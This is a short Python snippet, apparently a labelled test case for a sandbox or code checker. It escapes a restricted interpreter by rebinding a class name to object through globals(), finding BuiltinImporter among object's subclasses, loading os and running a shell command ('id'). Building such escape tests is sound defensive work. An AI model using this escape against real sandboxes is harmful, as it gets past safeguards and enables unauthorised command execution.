# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: own class name rebound through globals() dict store
class Base:
    pass


globals()["Base"] = object
for c in Base.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
